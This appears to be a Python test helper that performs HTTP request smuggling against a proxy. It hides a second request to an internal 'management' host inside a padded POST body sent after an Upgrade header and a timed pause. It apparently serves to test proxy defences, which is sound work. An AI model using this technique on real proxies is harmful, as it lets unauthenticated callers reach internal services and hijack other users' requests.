"""A caller without any credential who hides a request in the body of another, for the next caller's request to complete."""

import socket
import time

from tests.support.echoing import Address

PAUSE_SECONDS = 0.2
"""Until the proxy has sent the head on; if it has not, the body comes with it, which is one of the ways to cut."""
PADDING = b"\r\n" * 4096
"""Empty lines before a request are ignored (RFC 9112, section 2.2): so the rest begins as one, wherever the body is cut."""


def smuggle(proxy: Address, method: str, path: str, upgrade: str) -> bytes:
    """The answer to the request around it."""
    hidden = PADDING + f"{method} {path} HTTP/1.1\r\nHost: management\r\nX-Swallowed: ".encode()
    lines = ["POST /healthz HTTP/1.1", "Host: management", "Connection: Upgrade", f"Upgrade: {upgrade}"]
    head = "\r\n".join([*lines, f"Content-Length: {len(hidden)}", "", ""]).encode()
    with socket.create_connection(proxy, 10) as connection:
        connection.sendall(head)
        time.sleep(PAUSE_SECONDS)
        connection.sendall(hidden)
        return connection.recv(65_536)
